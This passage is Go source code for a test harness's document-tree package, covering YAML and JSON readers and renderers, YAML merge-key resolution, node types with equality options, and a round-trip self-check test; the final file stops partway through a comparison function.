package doc

import (
	"fmt"
	"math"
	"strconv"
	"strings"
	"time"

	"gopkg.in/yaml.v3"
)

// NonStringKeyPrefix marks mapping keys that were not strings in a YAML text
// read by FromYAMLNode.
const NonStringKeyPrefix = "\x00nonstring:"

// FromYAML reads a single YAML document into a plain tree through yaml.Node
// (tag-resolved scalars, Content order). Aliases are expanded; merge keys are
// kept as Merge pairs (use ResolveMerges to apply them).
func FromYAML(data []byte) (*Node, error) {
	var n yaml.Node
	if err := yaml.Unmarshal(data, &n); err != nil {
		return nil, err
	}
	return FromYAMLNode(&n)
}

// FromYAMLNode converts a yaml.Node.
func FromYAMLNode(n *yaml.Node) (*Node, error) {
	return fromYAMLNode(n, map[*yaml.Node]bool{}, 0)
}

// FromYAMLInput reads a generated input document: like FromYAML, but integer
// and boolean mapping keys are given their documented canonical string form
// (decimal, true/false), as the generator's own tree has them.
func FromYAMLInput(data []byte) (*Node, error) {
	n, err := FromYAML(data)
	if err != nil {
		return nil, err
	}
	return canonKeys(n)
}

// FromYAMLInputNode is FromYAMLInput for an already parsed yaml.Node.
func FromYAMLInputNode(yn *yaml.Node) (*Node, error) {
	n, err := FromYAMLNode(yn)
	if err != nil {
		return nil, err
	}
	return canonKeys(n)
}

func canonKeys(n *Node) (*Node, error) {
	var bad error
	seen := map[*Node]bool{}
	var rec func(x *Node)
	rec = func(x *Node) {
		if x == nil || seen[x] {
			return
		}
		seen[x] = true
		for _, e := range x.Seq {
			rec(e)
		}
		for i, p := range x.Map {
			if strings.HasPrefix(p.Key, NonStringKeyPrefix) {
				rest := strings.TrimPrefix(p.Key, NonStringKeyPrefix)
				tag, val, _ := strings.Cut(rest, ":")
				r := ResolvePlain(val)
				switch {
				case tag == "!!int" && r != nil && r.Kind == KInt:
					x.Map[i].Key = strconv.FormatInt(r.Int, 10)
				case tag == "!!bool" && r != nil && r.Kind == KBool:
					x.Map[i].Key = strconv.FormatBool(r.Bool)
				default:
					bad = fmt.Errorf("unsupported non-string key %q", rest)
				}
			}
			rec(p.Val)
		}
	}
	rec(n)
	return n, bad
}

func fromYAMLNode(n *yaml.Node, onPath map[*yaml.Node]bool, depth int) (*Node, error) {
	if n == nil {
		return Null(), nil
	}
	if depth > 5000 {
		return nil, fmt.Errorf("too deep")
	}
	switch n.Kind {
	case 0:
		return Null(), nil
	case yaml.DocumentNode:
		if len(n.Content) == 0 {
			return Null(), nil
		}
		return fromYAMLNode(n.Content[0], onPath, depth+1)
	case yaml.AliasNode:
		if onPath[n.Alias] {
			return nil, fmt.Errorf("alias cycle")
		}
		return fromYAMLNode(n.Alias, onPath, depth+1)
	case yaml.ScalarNode:
		return scalarFromYAML(n)
	case yaml.SequenceNode:
		onPath[n] = true
		defer delete(onPath, n)
		out := &Node{Kind: KSeq, Seq: make([]*Node, 0, len(n.Content))}
		for _, c := range n.Content {
			e, err := fromYAMLNode(c, onPath, depth+1)
			if err != nil {
				return nil, err
			}
			out.Seq = append(out.Seq, e)
		}
		return out, nil
	case yaml.MappingNode:
		onPath[n] = true
		defer delete(onPath, n)
		out := &Node{Kind: KMap, Map: make([]Pair, 0, len(n.Content)/2)}
		for i := 0; i+1 < len(n.Content); i += 2 {
			kn := n.Content[i]
			for kn.Kind == yaml.AliasNode {
				kn = kn.Alias
			}
			v, err := fromYAMLNode(n.Content[i+1], onPath, depth+1)
			if err != nil {
				return nil, err
			}
			if kn.Kind != yaml.ScalarNode {
				return nil, fmt.Errorf("non-scalar mapping key")
			}
			switch kn.ShortTag() {
			case "!!merge":
				out.Map = append(out.Map, Pair{Merge: true, Val: v})
			case "!!str":
				out.Map = append(out.Map, Pair{Key: kn.Value, Val: v})
			default:
				out.Map = append(out.Map, Pair{Key: NonStringKeyPrefix + kn.ShortTag() + ":" + kn.Value, Val: v})
			}
		}
		return out, nil
	}
	return nil, fmt.Errorf("unsupported yaml node kind %d", n.Kind)
}

func scalarFromYAML(n *yaml.Node) (*Node, error) {
	var v any
	if err := n.Decode(&v); err != nil {
		return nil, err
	}
	switch t := v.(type) {
	case nil:
		return Null(), nil
	case bool:
		return B(t), nil
	case int:
		return I(int64(t)), nil
	case int64:
		return I(t), nil
	case uint64:
		if t <= math.MaxInt64 {
			return I(int64(t)), nil
		}
		return F(float64(t)), nil
	case uint:
		return F(float64(t)), nil
	case float64:
		return F(t), nil
	case string:
		return S(t), nil
	case time.Time:
		return T(n.Value, t), nil
	case []byte:
		return S(string(t)), nil
	}
	return nil, fmt.Errorf("unsupported scalar type %T", v)
}

func init() {
	ResolvePlain = func(text string) *Node {
		n := &yaml.Node{Kind: yaml.ScalarNode, Value: text}
		out, err := scalarFromYAML(n)
		if err != nil {
			return nil
		}
		return out
	}
}
