package doc

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"strconv"
	"strings"
	"unicode/utf8"
)

// ToJSON renders a plain tree as JSON (ordered). Shared subtrees are simply
// written out again. Timestamps are written as their source text in a string
// is NOT done: KTime is written as a JSON string of its RFC 3339 form.
func ToJSON(n *Node) []byte {
	var b bytes.Buffer
	writeJSON(&b, n)
	return b.Bytes()
}

// JSONString writes a JSON string literal with raw UTF-8 (only quotes,
// backslashes and control characters are escaped), so that the text is also
// a valid YAML double-quoted scalar.
func JSONString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"':
			b.WriteString(`\"`)
		case r == '\\':
			b.WriteString(`\\`)
		case r == '\n':
			b.WriteString(`\n`)
		case r == '\r':
			b.WriteString(`\r`)
		case r == '\t':
			b.WriteString(`\t`)
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == 0x2028 || r == 0x2029 || r == 0xfeff:
			fmt.Fprintf(&b, `\u%04x`, r)
		case r == utf8.RuneError:
			b.WriteString(`�`)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func writeJSON(b *bytes.Buffer, n *Node) {
	switch n.Kind {
	case KNull:
		b.WriteString("null")
	case KBool:
		b.WriteString(strconv.FormatBool(n.Bool))
	case KInt:
		b.WriteString(strconv.FormatInt(n.Int, 10))
	case KFloat:
		b.WriteString(FormatFloat(n.Float))
	case KStr:
		b.WriteString(JSONString(n.Str))
	case KTime:
		b.WriteString(JSONString(TimeString(n.Time)))
	case KSeq:
		b.WriteByte('[')
		for i, e := range n.Seq {
			if i > 0 {
				b.WriteByte(',')
			}
			writeJSON(b, e)
		}
		b.WriteByte(']')
	case KMap:
		b.WriteByte('{')
		for i, p := range n.Map {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(JSONString(p.Key))
			b.WriteByte(':')
			writeJSON(b, p.Val)
		}
		b.WriteByte('}')
	}
}

// FromJSON reads JSON into a tree using encoding/json's token stream
// (order-preserving; independent of ordered.Map).
func FromJSON(data []byte) (*Node, error) {
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	n, err := readJSONValue(dec)
	if err != nil {
		return nil, err
	}
	if _, err := dec.Token(); err != io.EOF {
		return nil, fmt.Errorf("trailing data after JSON value")
	}
	return n, nil
}

func readJSONValue(dec *json.Decoder) (*Node, error) {
	tok, err := dec.Token()
	if err != nil {
		return nil, err
	}
	return readJSONFrom(dec, tok)
}

func readJSONFrom(dec *json.Decoder, tok json.Token) (*Node, error) {
	switch t := tok.(type) {
	case nil:
		return Null(), nil
	case bool:
		return B(t), nil
	case string:
		return S(t), nil
	case json.Number:
		s := t.String()
		if !strings.ContainsAny(s, ".eE") {
			if i, err := strconv.ParseInt(s, 10, 64); err == nil {
				return I(i), nil
			}
		}
		f, err := strconv.ParseFloat(s, 64)
		if err != nil {
			return nil, err
		}
		return F(f), nil
	case json.Delim:
		switch t {
		case '[':
			n := &Node{Kind: KSeq, Seq: []*Node{}}
			for dec.More() {
				e, err := readJSONValue(dec)
				if err != nil {
					return nil, err
				}
				n.Seq = append(n.Seq, e)
			}
			if _, err := dec.Token(); err != nil {
				return nil, err
			}
			return n, nil
		case '{':
			n := &Node{Kind: KMap, Map: []Pair{}}
			for dec.More() {
				kt, err := dec.Token()
				if err != nil {
					return nil, err
				}
				k, ok := kt.(string)
				if !ok {
					return nil, fmt.Errorf("non-string JSON key %v", kt)
				}
				v, err := readJSONValue(dec)
				if err != nil {
					return nil, err
				}
				n.Map = append(n.Map, Pair{Key: k, Val: v})
			}
			if _, err := dec.Token(); err != nil {
				return nil, err
			}
			return n, nil
		}
	}
	return nil, fmt.Errorf("unexpected JSON token %v", tok)
}
