package doc

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"unicode"
)

// YAMLOpts controls the YAML renderer.
type YAMLOpts struct {
	Rng     *rand.Rand // style choices; nil = block style, double quotes unless safely plain
	Flow    float64    // probability that a collection is written in flow style
	Anchors bool       // write shared pointers as anchors/aliases (otherwise unfold)
	Compact bool       // "- key: v" compact sequence-of-mapping style where possible
}

type yamlR struct {
	o       YAMLOpts
	b       strings.Builder
	refs    map[*Node]int
	anchor  map[*Node]string
	emitted map[*Node]bool
	nanchor int
	left    map[*Node]int // aliases still to be written per anchored node
	free    []string      // anchor names whose node has no alias left: may be redefined
	err     error
	depth   int
}

// ToYAML renders a tree (possibly with shared nodes, merge pairs, key nodes
// and - when Anchors is set - cycles) as YAML text.
func ToYAML(n *Node, o YAMLOpts) (string, error) {
	r := &yamlR{o: o, refs: map[*Node]int{}, anchor: map[*Node]string{}, emitted: map[*Node]bool{}}
	if o.Anchors {
		r.count(n)
	}
	r.top(n)
	if r.err != nil {
		return "", r.err
	}
	return r.b.String(), nil
}

func (r *yamlR) count(n *Node) {
	if n == nil {
		return
	}
	r.refs[n]++
	if r.refs[n] > 1 {
		return
	}
	for _, e := range n.Seq {
		r.count(e)
	}
	for _, p := range n.Map {
		if p.KeyNode != nil {
			r.count(p.KeyNode)
		}
		r.count(p.Val)
	}
}

func (r *yamlR) chance(p float64) bool {
	return r.o.Rng != nil && r.o.Rng.Float64() < p
}

// props returns ("*name", true) when n must be written as an alias, or the
// anchor property text ("&name " or "") when it is written out.
func (r *yamlR) props(n *Node) (alias string, isAlias bool, anchor string) {
	if !r.o.Anchors || r.refs[n] < 2 {
		return "", false, ""
	}
	if r.emitted[n] {
		r.left[n]--
		if r.left[n] == 0 {
			r.free = append(r.free, r.anchor[n])
		}
		return "*" + r.anchor[n], true, ""
	}
	return "", false, "&" + r.define(n)
}

// define picks the anchor name for n: a fresh one, or - YAML lets a name be
// redefined, an alias then means the latest definition - one whose earlier
// holder has no alias left to come.
func (r *yamlR) define(n *Node) string {
	var name string
	if len(r.free) > 0 && r.chance(0.5) {
		i := r.o.Rng.IntN(len(r.free))
		name = r.free[i]
		r.free = append(r.free[:i], r.free[i+1:]...)
	} else {
		r.nanchor++
		name = "a" + strconv.Itoa(r.nanchor)
	}
	r.anchor[n] = name
	r.emitted[n] = true
	if r.left == nil {
		r.left = map[*Node]int{}
	}
	r.left[n] = r.refs[n] - 1
	return name
}

func (r *yamlR) useFlow(n *Node) bool {
	switch n.Style {
	case StyleFlow:
		return true
	case StyleBlock:
		return false
	}
	return r.chance(r.o.Flow)
}

func (r *yamlR) top(n *Node) {
	if n.IsScalar() {
		r.b.WriteString(r.scalar(n, false, 0, false))
		r.b.WriteByte('\n')
		return
	}
	if r.isEmptyColl(n) || r.useFlow(n) {
		r.b.WriteString(r.flow(n))
		r.b.WriteByte('\n')
		return
	}
	// No anchor on the root.
	if r.o.Anchors && r.refs[n] > 1 {
		r.b.WriteString("&" + r.define(n) + "\n")
	}
	r.block(n, 0)
}

func (r *yamlR) isEmptyColl(n *Node) bool {
	return (n.Kind == KSeq && len(n.Seq) == 0) || (n.Kind == KMap && len(n.Map) == 0)
}

// block writes the lines of a non-empty block collection at the given indent.
func (r *yamlR) block(n *Node, indent int) {
	r.depth++
	defer func() { r.depth-- }()
	if r.depth > 2000 {
		r.err = fmt.Errorf("render depth exceeded")
		return
	}
	pad := strings.Repeat(" ", indent)
	switch n.Kind {
	case KMap:
		for _, p := range n.Map {
			r.b.WriteString(pad)
			r.b.WriteString(r.key(p))
			r.b.WriteByte(':')
			r.value(p.Val, indent)
		}
	case KSeq:
		for _, e := range n.Seq {
			r.b.WriteString(pad)
			r.b.WriteByte('-')
			if r.o.Compact && e.Kind == KMap && len(e.Map) > 0 && (!r.o.Anchors || r.refs[e] < 2) && e.Style != StyleFlow {
				// compact: first pair on the dash line
				mark := r.b.Len()
				r.block(e, indent+2)
				s := r.b.String()
				body := s[mark:]
				head := s[:mark]
				r.b.Reset()
				r.b.WriteString(head)
				r.b.WriteByte(' ')
				r.b.WriteString(body[indent+2:])
				continue
			}
			r.value(e, indent)
		}
	}
}

// value writes " <value>\n" (or "\n" + nested block) after "key:" or "-".
func (r *yamlR) value(n *Node, indent int) {
	alias, isAlias, anchor := r.props(n)
	if isAlias {
		r.b.WriteString(" " + alias + "\n")
		return
	}
	if anchor != "" {
		r.b.WriteString(" " + anchor)
	}
	if n.IsScalar() {
		if n.Kind == KNull && anchor == "" && n.Style == StylePlain && r.chance(0.5) {
			r.b.WriteByte('\n') // empty value = null
			return
		}
		r.b.WriteByte(' ')
		r.b.WriteString(r.scalar(n, false, indent+2, true))
		r.b.WriteByte('\n')
		return
	}
	if r.isEmptyColl(n) || r.useFlow(n) {
		r.b.WriteByte(' ')
		r.b.WriteString(r.flowBody(n))
		r.b.WriteByte('\n')
		return
	}
	r.b.WriteByte('\n')
	r.block(n, indent+2)
}

func (r *yamlR) key(p Pair) string {
	if p.Merge {
		return "<<"
	}
	if p.KeyNode != nil {
		alias, isAlias, anchor := r.props(p.KeyNode)
		if isAlias {
			return alias + " "
		}
		s := r.scalar(p.KeyNode, true, 0, false)
		if anchor != "" {
			return anchor + " " + s
		}
		return s
	}
	k := &Node{Kind: KStr, Str: p.Key}
	return r.scalar(k, true, 0, false)
}

// flow writes a node (with props) in flow style.
func (r *yamlR) flow(n *Node) string {
	alias, isAlias, anchor := r.props(n)
	if isAlias {
		return alias
	}
	s := r.flowBody(n)
	if anchor != "" {
		return anchor + " " + s
	}
	return s
}

func (r *yamlR) flowBody(n *Node) string {
	r.depth++
	defer func() { r.depth-- }()
	if r.depth > 2000 {
		r.err = fmt.Errorf("render depth exceeded")
		return ""
	}
	switch n.Kind {
	case KSeq:
		parts := make([]string, len(n.Seq))
		for i, e := range n.Seq {
			parts[i] = r.flow(e)
		}
		return "[" + strings.Join(parts, ", ") + "]"
	case KMap:
		parts := make([]string, len(n.Map))
		for i, p := range n.Map {
			parts[i] = r.key(p) + ": " + r.flow(p.Val)
		}
		return "{" + strings.Join(parts, ", ") + "}"
	}
	return r.scalar(n, true, 0, false)
}

var reservedPlain = map[string]bool{}

func init() {
	for _, w := range []string{"null", "~", "true", "false", "yes", "no", "on", "off", "y", "n", "nan", "inf"} {
		reservedPlain[w] = true
	}
}

// PlainSafe reports whether s may be written as a plain scalar and is
// certain to be read back as the same string in any context.
func PlainSafe(s string) bool {
	if s == "" || len(s) > 200 {
		return false
	}
	if reservedPlain[strings.ToLower(s)] {
		return false
	}
	first := rune(s[0])
	if !(unicode.IsLetter(first) && first < 0x80 || first == '_' || first == '$' || first == '/') {
		return false
	}
	prevSpace := false
	for i, c := range s {
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
			prevSpace = false
		case strings.ContainsRune("_-./+=$()^;\\", c):
			prevSpace = false
		case c == ' ':
			if prevSpace || i == 0 || i == len(s)-1 {
				return false
			}
			prevSpace = true
		default:
			return false
		}
	}
	return true
}

func singleOK(s string) bool {
	for _, c := range s {
		if c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c == 0x2028 || c == 0x2029 || c == 0xfeff || c == 0xfffd {
			return false
		}
	}
	return true
}

func literalOK(s string) bool {
	if !strings.Contains(s, "\n") {
		return false
	}
	if s[0] == ' ' || s[0] == '\n' {
		return false
	}
	for _, c := range s {
		if c == '\n' {
			continue
		}
		if c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c == 0x2028 || c == 0x2029 || c == 0xfeff || c == 0xfffd {
			return false
		}
	}
	body := strings.TrimRight(s, "\n")
	for _, line := range strings.Split(body, "\n") {
		if line != "" && strings.TrimSpace(line) == "" {
			return false // whitespace-only line
		}
	}
	return true
}

// scalar renders a scalar. inline forbids block (literal) style; indent is
// the indentation for literal block lines.
func (r *yamlR) scalar(n *Node, inline bool, indent int, blockOK bool) string {
	switch n.Kind {
	case KNull:
		if n.Style == StylePlain && r.chance(0.5) {
			return "~"
		}
		return "null"
	case KBool:
		return strconv.FormatBool(n.Bool)
	case KInt:
		if n.IntForm != "" {
			return n.IntForm
		}
		return strconv.FormatInt(n.Int, 10)
	case KFloat:
		return FormatFloat(n.Float)
	case KTime:
		return n.Str
	}
	s := n.Str
	style := n.Style
	if style == StyleAuto {
		if r.o.Rng == nil {
			if PlainSafe(s) {
				style = StylePlain
			} else {
				style = StyleDouble
			}
		} else {
			switch r.o.Rng.IntN(4) {
			case 0:
				style = StylePlain
			case 1:
				style = StyleSingle
			case 2:
				style = StyleDouble
			default:
				style = StyleLiteral
			}
		}
	}
	// Fall back along plain -> single -> double when a style is not legal.
	if style == StyleLiteral && (inline || !blockOK || !literalOK(s)) {
		style = StylePlain
	}
	if style == StylePlain && !PlainSafe(s) {
		style = StyleSingle
	}
	if style == StyleSingle && !singleOK(s) {
		style = StyleDouble
	}
	if strings.Contains(s, "\n") && style == StyleSingle {
		style = StyleDouble
	}
	switch style {
	case StylePlain:
		return s
	case StyleSingle:
		return "'" + strings.ReplaceAll(s, "'", "''") + "'"
	case StyleLiteral:
		body := strings.TrimRight(s, "\n")
		trail := len(s) - len(body)
		ind := "|"
		switch {
		case trail == 0:
			ind = "|-"
		case trail > 1:
			ind = "|+"
		}
		pad := strings.Repeat(" ", indent)
		var b strings.Builder
		b.WriteString(ind)
		lines := strings.Split(body, "\n")
		for _, l := range lines {
			b.WriteByte('\n')
			if l != "" {
				b.WriteString(pad)
				b.WriteString(l)
			}
		}
		for i := 1; i < trail; i++ {
			b.WriteByte('\n')
		}
		return b.String()
	}
	return JSONString(s)
}
