package doc_test

import (
	"math/rand/v2"
	"testing"

	"gopkg.in/yaml.v3"
	"verif/doc"
	"verif/gen"
)

func TestRenderSelfCheck(t *testing.T) {
	bad := 0
	for i := 0; i < 20000; i++ {
		r := rand.New(rand.NewPCG(uint64(i), 7))
		o := gen.ValueOpts{Str: gen.StringOpts{Tricky: true, Interp: true, LeadingWS: true}, MaxDepth: 4, KeyTricky: true}
		n := doc.M(doc.P("root", gen.Value(r, o, 0)), doc.P("k2", gen.Value(r, o, 0)))
		if i%3 == 0 {
			n = doc.L(gen.Value(r, o, 0), gen.Value(r, o, 1), n)
		}
		txt, err := doc.ToYAML(n, doc.YAMLOpts{Rng: r, Flow: 0.3, Compact: i%2 == 0})
		if err != nil {
			t.Fatal(err)
		}
		back, err := doc.FromYAML([]byte(txt))
		if err != nil {
			bad++
			if bad < 10 {
				t.Errorf("case %d: %v\n%s\ntree %s", i, err, txt, n)
			}
			continue
		}
		if d := doc.Equal(n, back, doc.EqOpts{Ordered: true}); d != "" {
			bad++
			if bad < 10 {
				t.Errorf("case %d: %s\n%s\ntree %s\nback %s", i, d, txt, n, back)
			}
		}
		// JSON leg
		js := doc.ToJSON(n)
		var yn yaml.Node
		if err := yaml.Unmarshal(js, &yn); err != nil {
			t.Errorf("case %d json-as-yaml: %v\n%s", i, err, js)
			continue
		}
		jb, err := doc.FromYAMLNode(&yn)
		if err != nil {
			t.Errorf("case %d: %v", i, err)
			continue
		}
		if d := doc.Equal(n, jb, doc.EqOpts{Ordered: true, TimeAsString: true}); d != "" {
			bad++
			if bad < 10 {
				t.Errorf("case %d json: %s\n%s", i, d, js)
			}
		}
		j2, err := doc.FromJSON(js)
		if err != nil {
			t.Errorf("case %d: %v", i, err)
			continue
		}
		if d := doc.Equal(n, j2, doc.EqOpts{Ordered: true, TimeAsString: true}); d != "" {
			bad++
			if bad < 10 {
				t.Errorf("case %d json2: %s\n%s", i, d, js)
			}
		}
	}
	t.Logf("bad=%d", bad)
}
