package doc

import "fmt"

// ErrValueCycle is returned by ResolveMerges when the graph has a cycle that
// passes through a value (child) edge, i.e. its expansion is infinite.
var ErrValueCycle = fmt.Errorf("alias cycle through a value")

// ErrBadKey is returned when a mapping key is not a scalar (an alias to a
// mapping or sequence used as a key).
var ErrBadKey = fmt.Errorf("non-scalar mapping key")

// ErrTooLarge is returned when the expansion exceeds the node budget.
var ErrTooLarge = fmt.Errorf("expansion too large")

// ResolveMerges computes the plain tree a graph (shared nodes, merge pairs,
// key nodes) stands for, by the YAML merge rules: explicit keys win wherever
// they stand; earlier merge sources win over later ones; merged keys take
// the position of the merge key; every reference expands to an independent
// copy. A cycle made only of merge edges contributes nothing; a cycle
// through a value edge is an error. budget bounds the number of produced
// nodes (<=0: 1e6).
func ResolveMerges(n *Node, budget int) (*Node, error) {
	if budget <= 0 {
		budget = 1000000
	}
	r := &resolver{onPath: map[*Node]bool{}, budget: budget}
	return r.value(n)
}

type resolver struct {
	onPath map[*Node]bool
	budget int
}

func (r *resolver) value(n *Node) (*Node, error) {
	r.budget--
	if r.budget < 0 {
		return nil, ErrTooLarge
	}
	if n.IsScalar() {
		c := *n
		c.Seq, c.Map = nil, nil
		return &c, nil
	}
	if r.onPath[n] {
		return nil, ErrValueCycle
	}
	r.onPath[n] = true
	defer delete(r.onPath, n)
	if n.Kind == KSeq {
		out := &Node{Kind: KSeq, Seq: make([]*Node, 0, len(n.Seq)), Style: n.Style}
		for _, e := range n.Seq {
			v, err := r.value(e)
			if err != nil {
				return nil, err
			}
			out.Seq = append(out.Seq, v)
		}
		return out, nil
	}
	out := &Node{Kind: KMap, Map: []Pair{}, Style: n.Style}
	merged := map[*Node]bool{}
	err := r.rangeMap(n, merged, func(k string, v *Node) error {
		rv, err := r.value(v)
		if err != nil {
			return err
		}
		// Like a dictionary Set: a repeated explicit key updates in place.
		for i := range out.Map {
			if out.Map[i].Key == k {
				out.Map[i].Val = rv
				return nil
			}
		}
		out.Map = append(out.Map, Pair{Key: k, Val: rv})
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}

// rangeMap yields the effective (key, value-node) pairs of mapping n.
func (r *resolver) rangeMap(n *Node, merged map[*Node]bool, f func(string, *Node) error) error {
	if merged[n] {
		return nil
	}
	merged[n] = true
	switch n.Kind {
	case KMap:
		keys := map[string]bool{}
		for _, p := range n.Map {
			if !p.Merge {
				if p.KeyNode != nil && !p.KeyNode.IsScalar() {
					return ErrBadKey
				}
				keys[p.Key] = true
			}
		}
		filtered := func(k string, v *Node) error {
			if keys[k] {
				return nil
			}
			keys[k] = true
			return f(k, v)
		}
		for _, p := range n.Map {
			if p.Merge {
				if err := r.rangeMap(p.Val, merged, filtered); err != nil {
					return err
				}
				continue
			}
			if err := f(p.Key, p.Val); err != nil {
				return err
			}
		}
	case KSeq:
		for _, e := range n.Seq {
			if err := r.rangeMap(e, merged, f); err != nil {
				return err
			}
		}
	default:
		return fmt.Errorf("merge source is a scalar")
	}
	return nil
}

// HasMergeOrSharing reports whether the graph uses merge pairs.
func HasMerge(n *Node) bool {
	seen := map[*Node]bool{}
	var rec func(*Node) bool
	rec = func(x *Node) bool {
		if x == nil || seen[x] {
			return false
		}
		seen[x] = true
		for _, e := range x.Seq {
			if rec(e) {
				return true
			}
		}
		for _, p := range x.Map {
			if p.Merge || rec(p.Val) {
				return true
			}
		}
		return false
	}
	return rec(n)
}
