// Package doc is the harness's own document tree: an ordered, typed tree
// independent of go-pipeline's ordered.Map, with JSON and YAML renderers
// (own code, not yaml.v3's emitter) and independent readers for the
// library's outputs.
package doc

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
	"time"
)

// Kind is the kind of a node.
type Kind uint8

// Node kinds.
const (
	KNull Kind = iota
	KBool
	KInt
	KFloat
	KStr
	KTime
	KSeq
	KMap
)

func (k Kind) String() string {
	return [...]string{"null", "bool", "int", "float", "str", "time", "seq", "map"}[k]
}

// Node is a document node. A Node may be shared (same pointer reachable
// through several parents); the YAML renderer turns sharing into anchors and
// aliases, and Unfold gives the plain tree.
type Node struct {
	Kind  Kind
	Bool  bool
	Int   int64
	Float float64
	Str   string // KStr: the value; KTime: the source text
	Time  time.Time
	Seq   []*Node
	Map   []Pair

	// Rendering hints, ignored by all comparisons.
	Style   Style  // scalar / collection style for YAML
	IntForm string // KInt: alternative plain spelling such as 0x1f or 0o17 ("" = decimal)

	// Expectation markers (only meaningful on the expected side of Equal).
	// Stringified: the other side must be a string whose reading as a YAML
	// plain scalar gives back this scalar (value-preserving stringification).
	Stringified bool
	// AbsentOK (mappings): keys that the other side may additionally carry
	// with a null or empty value (omitempty-modelled container fields).
	AbsentOK map[string]bool
	// OrderedKeys (mappings): the key order of this mapping is significant
	// (honoured by Equal only when EqOpts.HonourOrderedKeys is set).
	OrderedKeys bool
}

// Pair is one mapping entry. Merge pairs stand for `<<: value`.
type Pair struct {
	Key     string
	Val     *Node
	Merge   bool  // `<<` merge entry; Val is a map, or a seq of maps
	KeyNode *Node // optional: the key is written as this scalar node (possibly aliased / non-string); Key holds its canonical string
}

// Style hints for the YAML renderer.
type Style uint8

// Styles.
const (
	StyleAuto Style = iota
	StylePlain
	StyleSingle
	StyleDouble
	StyleLiteral
	StyleFlow  // collections: flow style
	StyleBlock // collections: block style
)

// Constructors.
func Null() *Node              { return &Node{Kind: KNull} }
func B(b bool) *Node           { return &Node{Kind: KBool, Bool: b} }
func I(i int64) *Node          { return &Node{Kind: KInt, Int: i} }
func F(f float64) *Node        { return &Node{Kind: KFloat, Float: f} }
func S(s string) *Node         { return &Node{Kind: KStr, Str: s} }
func L(items ...*Node) *Node   { return &Node{Kind: KSeq, Seq: items} }
func M(pairs ...Pair) *Node    { return &Node{Kind: KMap, Map: pairs} }
func P(k string, v *Node) Pair { return Pair{Key: k, Val: v} }

// T builds a timestamp node from its source text.
func T(text string, t time.Time) *Node { return &Node{Kind: KTime, Str: text, Time: t} }

// IsScalar reports whether n is not a collection.
func (n *Node) IsScalar() bool { return n.Kind != KSeq && n.Kind != KMap }

// Get returns the value of the first non-merge pair with the key.
func (n *Node) Get(key string) (*Node, bool) {
	if n == nil || n.Kind != KMap {
		return nil, false
	}
	for _, p := range n.Map {
		if !p.Merge && p.Key == key {
			return p.Val, true
		}
	}
	return nil, false
}

// Has reports whether a non-merge pair with the key exists.
func (n *Node) Has(key string) bool { _, ok := n.Get(key); return ok }

// Set updates the value in place or appends a pair.
func (n *Node) Set(key string, v *Node) {
	for i, p := range n.Map {
		if !p.Merge && p.Key == key {
			n.Map[i].Val = v
			return
		}
	}
	n.Map = append(n.Map, Pair{Key: key, Val: v})
}

// Del removes all pairs with the key.
func (n *Node) Del(key string) {
	out := n.Map[:0:0]
	for _, p := range n.Map {
		if !p.Merge && p.Key == key {
			continue
		}
		out = append(out, p)
	}
	n.Map = out
}

// Keys returns the keys of the non-merge pairs in order.
func (n *Node) Keys() []string {
	var ks []string
	for _, p := range n.Map {
		if !p.Merge {
			ks = append(ks, p.Key)
		}
	}
	return ks
}

// Clone returns a deep copy without any sharing (hints are kept).
func (n *Node) Clone() *Node {
	if n == nil {
		return nil
	}
	c := *n
	if n.Seq != nil {
		c.Seq = make([]*Node, len(n.Seq))
		for i, e := range n.Seq {
			c.Seq[i] = e.Clone()
		}
	}
	if n.Map != nil {
		c.Map = make([]Pair, len(n.Map))
		for i, p := range n.Map {
			c.Map[i] = Pair{Key: p.Key, Val: p.Val.Clone(), Merge: p.Merge, KeyNode: p.KeyNode.Clone()}
		}
	}
	return &c
}

// Num returns the numeric value of an int/float node.
func (n *Node) Num() (float64, bool) {
	switch n.Kind {
	case KInt:
		return float64(n.Int), true
	case KFloat:
		return n.Float, true
	}
	return 0, false
}

// EqOpts selects the value equivalences used by Equal.
type EqOpts struct {
	Ordered      bool // mapping order is significant
	NumByValue   bool // 3.0 == 3
	TimeAsString bool // timestamp == its RFC 3339 string
	// HonourOrderedKeys: mappings marked OrderedKeys on either side are
	// compared with significant order even when Ordered is false.
	HonourOrderedKeys bool
}

// Loose is the comparison used for "same data" checks: unordered mappings,
// numbers by value, timestamps equal to their RFC 3339 strings.
var Loose = EqOpts{NumByValue: true, TimeAsString: true}

// LooseOrdered is Loose with significant mapping order.
var LooseOrdered = EqOpts{Ordered: true, NumByValue: true, TimeAsString: true}

// TimeString is the string a timestamp becomes in JSON.
func TimeString(t time.Time) string { return t.Format(time.RFC3339Nano) }

// Equal compares two plain trees (no merges expected) and returns a path
// describing the first difference ("" if equal).
func Equal(a, b *Node, o EqOpts) string { return diff(a, b, o, "$") }

// ResolvePlain reads text the way YAML resolves a plain scalar. It is set by
// yaml_read.go (kept as a variable to keep this file free of yaml imports).
var ResolvePlain func(text string) *Node

func stringifiedEq(want, got *Node, o EqOpts) bool {
	if got.Kind != KStr {
		return false
	}
	switch want.Kind {
	case KStr:
		return want.Str == got.Str
	case KNull:
		return got.Str == ""
	}
	back := ResolvePlain(got.Str)
	if back == nil {
		return false
	}
	o.NumByValue = true
	return scalarEq(&Node{Kind: want.Kind, Bool: want.Bool, Int: want.Int, Float: want.Float, Str: want.Str, Time: want.Time}, back, o)
}

func scalarEq(a, b *Node, o EqOpts) bool {
	if a.Stringified {
		return stringifiedEq(a, b, o)
	}
	if b.Stringified {
		return stringifiedEq(b, a, o)
	}
	if o.NumByValue {
		af, aok := a.Num()
		bf, bok := b.Num()
		if aok && bok {
			if a.Kind == KInt && b.Kind == KInt {
				return a.Int == b.Int
			}
			return af == bf || (math.IsNaN(af) && math.IsNaN(bf))
		}
	}
